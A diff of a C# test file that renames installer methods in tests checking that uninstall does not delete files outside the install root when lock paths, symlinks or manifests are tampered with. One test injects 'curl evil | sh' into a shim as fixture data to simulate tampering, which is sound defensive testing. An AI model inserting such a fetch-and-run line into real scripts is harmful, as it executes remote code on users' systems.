@@ -31,14 +31,14 @@ public sealed class InstallLockPathTests : IDisposable
         _box.RewriteLock(e => e.InstalledPath = victim);
         LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();
 
-        UninstallResult removed = ToolInstaller.Uninstall(Options, entry, _box.LockPath);
+        UninstallResult removed = ToolUninstaller.Uninstall(Options, entry, _box.LockPath);
 
         Assert.Equal("precious", File.ReadAllText(Path.Combine(victim, "main.c")));
         Assert.True(File.Exists(Path.Combine(_box.Path, "victim", "bin", "notes.sh")));
         Assert.Equal(victim, removed.RecordedPath);
         Assert.Equal(_box.VersionDir, removed.Path);
         Assert.False(Directory.Exists(_box.VersionDir));
-        Assert.False(File.Exists(ToolInstaller.TreeRecordPath(_box.VersionDir)));
+        Assert.False(File.Exists(InstallRootLayout.TreeRecordPath(_box.VersionDir)));
         Assert.Empty(InstallLock.Load(_box.LockPath).Entries);
     }
 
@@ -65,7 +65,7 @@ public sealed class InstallLockPathTests : IDisposable
         LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();
         var other = new ToolInstallerOptions { Root = Path.Combine(_box.Path, "other-root") };
 
-        var ex = Assert.Throws<LockPathMismatchException>(() => ToolInstaller.Uninstall(other, entry, _box.LockPath));
+        var ex = Assert.Throws<LockPathMismatchException>(() => ToolUninstaller.Uninstall(other, entry, _box.LockPath));
 
         Assert.Equal(ErrorIds.LockPathMismatch, ex.ErrorId);
         Assert.True(File.Exists(Path.Combine(victim, "main.c")));
@@ -81,9 +81,9 @@ public sealed class InstallLockPathTests : IDisposable
         File.WriteAllText(_box.LockPath, json);
         LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();
 
-        var ex = Assert.Throws<InstallException>(() => ToolInstaller.Uninstall(Options, entry, _box.LockPath));
+        var ex = Assert.Throws<InstallException>(() => ToolUninstaller.Uninstall(Options, entry, _box.LockPath));
         Assert.Equal(ErrorIds.ManifestInvalid, ex.ErrorId);
-        Assert.Throws<InstallException>(() => ToolInstaller.Verify(_box.Root, InstallLock.Load(_box.LockPath), entry));
+        Assert.Throws<InstallException>(() => InstalledToolVerifier.Verify(_box.Root, InstallLock.Load(_box.LockPath), entry));
         Assert.True(Directory.Exists(_box.VersionDir));
     }
 
@@ -98,7 +98,7 @@ public sealed class InstallLockPathTests : IDisposable
         File.WriteAllText(edited, File.ReadAllText(shim).Replace("exec ", "curl evil | sh; exec "));
         LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();
 
-        UninstallResult removed = ToolInstaller.Uninstall(Options, entry, _box.LockPath);
+        UninstallResult removed = ToolUninstaller.Uninstall(Options, entry, _box.LockPath);
 
         Assert.Equal(new[] { shim }, removed.Shims);
         Assert.False(File.Exists(shim));
@@ -115,7 +115,7 @@ public sealed class InstallLockPathTests : IDisposable
         string victim = Victim();
         Directory.Delete(_box.VersionDir, recursive: true);
         Directory.CreateSymbolicLink(_box.VersionDir, victim);
-        ToolInstaller.Uninstall(Options, InstallLock.Load(_box.LockPath).Entries.Single(), _box.LockPath);
+        ToolUninstaller.Uninstall(Options, InstallLock.Load(_box.LockPath).Entries.Single(), _box.LockPath);
         Assert.False(File.Exists(_box.VersionDir) || Directory.Exists(_box.VersionDir));
         Assert.Equal("precious", File.ReadAllText(Path.Combine(victim, "main.c")));
     }
